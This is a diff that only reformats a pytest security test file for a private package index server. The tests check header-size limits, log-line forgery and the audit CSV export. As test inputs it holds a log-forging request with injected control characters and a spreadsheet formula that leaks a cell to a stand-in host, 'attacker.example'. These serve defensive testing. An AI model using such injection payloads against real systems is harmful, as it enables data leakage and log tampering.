@@ -22,8 +22,11 @@ from webclient import WebClient
 def server(tmp_path_factory):
     """A private index with a text log; 2FA off so an admin signs in with a password."""
     base = tmp_path_factory.mktemp("round2")
-    srv = start_server(base / "store", base / "data",
-                       env={"PRIVINDEX_READ_ACCESS": "token", "PRIVINDEX_REQUIRE_2FA": "false"})
+    srv = start_server(
+        base / "store",
+        base / "data",
+        env={"PRIVINDEX_READ_ACCESS": "token", "PRIVINDEX_REQUIRE_2FA": "false"},
+    )
     yield srv
     srv.stop()
 
@@ -47,8 +50,11 @@ def raw_request(server, request: bytes) -> bytes:
 
 # -- 4. caches keyed by what clients send are bounded in bytes ----------------------------------
 
+
 def test_a_thousand_distinct_long_keys_pin_no_memory(server):
-    token = privindex_cli(server, "token", "create", add_or_get(server, "memreader"), "--read-only").stdout.strip()
+    token = privindex_cli(
+        server, "token", "create", add_or_get(server, "memreader"), "--read-only"
+    ).stdout.strip()
     session = requests.Session()
     session.auth = ("__token__", token)
 
@@ -56,9 +62,11 @@ def test_a_thousand_distinct_long_keys_pin_no_memory(server):
         name = f"{tag}{i:06d}".ljust(200, "a")  # a valid name at the 200-character limit
         accept = f"application/x-{tag}{i}; q=0.1, " + "text/plain; q=0.1, " * (64 * 1024 // 19)
         agent = f"agent-{tag}{i} " + "b" * 8192
-        for path, headers in ((f"/simple/{name}/", {"Accept": accept, "User-Agent": agent}),
-                              (f"/simple/{name}/", {"User-Agent": agent}),
-                              (f"/packages/{tag}{i}/{'c' * 2000}.whl", {"User-Agent": agent})):
+        for path, headers in (
+            (f"/simple/{name}/", {"Accept": accept, "User-Agent": agent}),
+            (f"/simple/{name}/", {"User-Agent": agent}),
+            (f"/packages/{tag}{i}/{'c' * 2000}.whl", {"User-Agent": agent}),
+        ):
             resp = session.get(server.url + path, headers=headers, timeout=30)
             assert resp.status_code in (404, 406, 431)  # 406: the code before the Accept limit
 
@@ -72,24 +80,37 @@ def test_a_thousand_distinct_long_keys_pin_no_memory(server):
 
 
 def test_an_absurd_accept_header_is_refused_and_a_real_one_negotiates(server):
-    token = privindex_cli(server, "token", "create", add_or_get(server, "accepter"), "--read-only").stdout.strip()
-    resp = requests.get(f"{server.url}/simple/", auth=("__token__", token), timeout=10,
-                        headers={"Accept": "text/html, " + "x/y; q=0.1, " * 1000})
+    token = privindex_cli(
+        server, "token", "create", add_or_get(server, "accepter"), "--read-only"
+    ).stdout.strip()
+    resp = requests.get(
+        f"{server.url}/simple/",
+        auth=("__token__", token),
+        timeout=10,
+        headers={"Accept": "text/html, " + "x/y; q=0.1, " * 1000},
+    )
     assert resp.status_code == 431 and resp.text == "The Accept header is longer than 1024 characters.\n"
-    pip_like = "application/vnd.pypi.simple.v1+json, application/vnd.pypi.simple.v1+html; q=0.1, text/html; q=0.01"
-    resp = requests.get(f"{server.url}/simple/", auth=("__token__", token), headers={"Accept": pip_like},
-                        timeout=10)
+    pip_like = (
+        "application/vnd.pypi.simple.v1+json, application/vnd.pypi.simple.v1+html; q=0.1, text/html; q=0.01"
+    )
+    resp = requests.get(
+        f"{server.url}/simple/", auth=("__token__", token), headers={"Accept": pip_like}, timeout=10
+    )
     assert resp.status_code == 200 and resp.headers["Content-Type"] == "application/vnd.pypi.simple.v1+json"
 
 
 # -- 5. a client cannot forge a log line ------------------------------------------------------
 
+
 def test_control_characters_from_a_client_cannot_forge_log_lines(server):
     forged = b'127.0.0.1 "GET /forged" 200 0.1ms "evil"'
     path = b"/simple/x%0a" + forged.replace(b" ", b"%20").replace(b'"', b"%22") + b"%00%1b%0d/"
-    answer = raw_request(server, b"GET " + path + b" HTTP/1.1\r\nHost: x\r\n"
-                         b"User-Agent: agent\tred\x85\x9b[31m\r\nX-Request-ID: round2-forge\r\n"
-                         b"Connection: close\r\n\r\n")  # waitress lets tab and bytes over 0x7f through
+    answer = raw_request(
+        server,
+        b"GET " + path + b" HTTP/1.1\r\nHost: x\r\n"
+        b"User-Agent: agent\tred\x85\x9b[31m\r\nX-Request-ID: round2-forge\r\n"
+        b"Connection: close\r\n\r\n",
+    )  # waitress lets tab and bytes over 0x7f through
     assert answer.startswith(b"HTTP/1.1 401")
     wait_until(lambda: "round2-forge" in server.log(), 10)
     raw = server.log_path.read_bytes()
@@ -102,11 +123,16 @@ def test_control_characters_from_a_client_cannot_forge_log_lines(server):
 
 # -- 6. the audit export is safe to open in a spreadsheet ---------------------------------------
 
+
 def test_the_audit_csv_export_carries_no_formula(server):
     formula = '=HYPERLINK("https://attacker.example/?leak="&A1,"click")'
     for agent in (formula, "+1+2", "-3+4", "@SUM(A1)"):  # (a header cannot start with tab or CR)
-        resp = requests.post(f"{server.url}/legacy/", headers={"User-Agent": agent}, timeout=10,
-                             data={":action": "file_upload"})
+        resp = requests.post(
+            f"{server.url}/legacy/",
+            headers={"User-Agent": agent},
+            timeout=10,
+            data={":action": "file_upload"},
+        )
         assert resp.status_code == 401  # refused, and audited with its user agent
     admin = WebClient(server.url)
     add_user(server, "csvadmin", PASSWORD, admin=True)
@@ -122,10 +148,13 @@ def test_the_audit_csv_export_carries_no_formula(server):
 
 # -- 7. probes tell nothing and cost nothing; numbers in forms are validated --------------------
 
+
 def test_health_on_a_private_index_tells_strangers_nothing(server):
     anonymous = requests.get(f"{server.url}/health", timeout=10)
     assert (anonymous.status_code, anonymous.json()) == (200, {"status": "ok"})
-    token = privindex_cli(server, "token", "create", add_or_get(server, "healthreader"), "--read-only").stdout.strip()
+    token = privindex_cli(
+        server, "token", "create", add_or_get(server, "healthreader"), "--read-only"
+    ).stdout.strip()
     with_token = requests.get(f"{server.url}/health", auth=("__token__", token), timeout=10).json()
     assert with_token["status"] == "ok" and "version" in with_token and "files" in with_token
     wrong = requests.get(f"{server.url}/health", auth=("__token__", "pidx_" + "x" * 40), timeout=10).json()
@@ -138,8 +167,11 @@ def test_readiness_writes_at_most_one_probe_a_second(tmp_path):
         io_path = Path(f"/proc/{quiet.proc.pid}/io")
 
         def writes() -> int:  # write(2) and send(2) calls of the server process
-            return int(next(line.split()[1] for line in io_path.read_text().splitlines()
-                            if line.startswith("syscw:")))
+            return int(
+                next(
+                    line.split()[1] for line in io_path.read_text().splitlines() if line.startswith("syscw:")
+                )
+            )
 
         session, asked = requests.Session(), 200
         before, started = writes(), time.monotonic()
